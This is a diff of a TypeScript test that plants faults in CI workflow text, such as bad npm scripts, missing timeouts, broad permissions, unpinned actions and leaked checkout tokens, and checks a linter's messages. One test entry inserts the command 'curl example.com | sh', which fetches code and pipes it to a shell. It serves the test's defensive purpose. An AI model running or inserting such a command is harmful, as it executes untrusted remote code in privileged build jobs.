@@ -25,11 +25,11 @@ test('sees planted faults in the workflows', () => {
       .replace(/^ {2}packages:/m, '  dry-run:');
   assert.deepEqual(problems(text), []);
   const faults: readonly (readonly [string | RegExp, string, RegExp])[] = [
-    ['run: npm run release\n', 'run: npm run relase\n', /^packages: `npm run relase` is no npm script$/],
+    ['npm run release -- --prepare', 'npm run relase', /^build: `npm run relase` is no npm script$/],
     ['run: npm test', 'run: npm test && curl example.com | sh', /^gate: .* is no npm script$/],
-    ['    timeout-minutes: 10\n', '', /^python: it has no timeout$/],
+    ['    timeout-minutes: 10\n', '', /^publish: it has no timeout$/],
     ['    permissions:\n      contents: read\n      packages: write\n', '', /^image: it has no permissions$/],
-    ['contents: write', 'actions: write', /^packages: the permission actions: write is not expected$/],
+    ['contents: write', 'actions: write', /^publish: the permission actions: write is not expected$/],
     ['permissions: {}', 'permissions: write-all', /^the workflow gives permissions to all jobs$/],
     ['          - { architecture: arm64, runner: ubuntu-24.04-arm }\n', '', /^gate: its architectures are x64$/],
     [
@@ -39,15 +39,26 @@ test('sees planted faults in the workflows', () => {
     ],
     ['@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2', '@v6', /^actions\/checkout@v6 is not pinned/],
     [' # v3.7.0', '', /^docker\/login-action@.* is not pinned/],
-    ['needs: packages', 'needs: package', /^python: it needs package, which does not exist$/],
-    ['runs-on: ubuntu-24.04\n', 'runs-on: ubuntu-latest\n', /^packages: its runner has no version$/],
+    ['needs: publish', 'needs: published', /^python: it needs published, which does not exist$/],
+    ['runs-on: ubuntu-24.04\n', 'runs-on: ubuntu-latest\n', /^build: its runner has no version$/],
     ['matrix.platform }}', 'matrix.cpu }}', /^image: the matrix has no cpu$/],
+    ['          persist-credentials: false\n', '          fetch-depth: 0\n', /^build: the checkout leaves its token/],
+    ['    timeout-minutes: 30\n', '    timeout: 30\n', /^prove: it has the unknown key timeout$/m],
     [
-      '          persist-credentials: false\n',
-      '          fetch-depth: 0\n',
-      /^packages: the checkout leaves its token/,
+      '      contents: read\n    outputs',
+      '      id-token: write\n    outputs',
+      /^build: `npm ci .*` runs code of others/,
     ],
-    ['    timeout-minutes: 30\n', '    timeout: 30\n', /^packages: it has the unknown key timeout$/m],
+    [
+      'release -- --publish',
+      'release -- --dry-run',
+      /^publish: `.* --dry-run` runs code of others in a job that may write$/,
+    ],
+    ['release -- --publish', 'prove -- packages', /^publish: `npm run prove -- packages` runs code of others/],
+    [/fetch-depth: 0(?![\s\S]*fetch-depth)/, 'fetch-depth: 1', /^image-index: its checkout lacks the tags/],
+    ['needs.build.outputs.integrity', 'needs.build.outputs.list', /^publish: it does not get list from build$/],
+    ['needs: [build, prove]', 'needs: prove', /^publish: it does not get integrity from build$/],
+    ['id: prepare', 'id: pack', /^build: it has no step prepare$/],
   ];
   for (const [before, after, sentence] of faults) {
     const changed = text.replace(before, after);
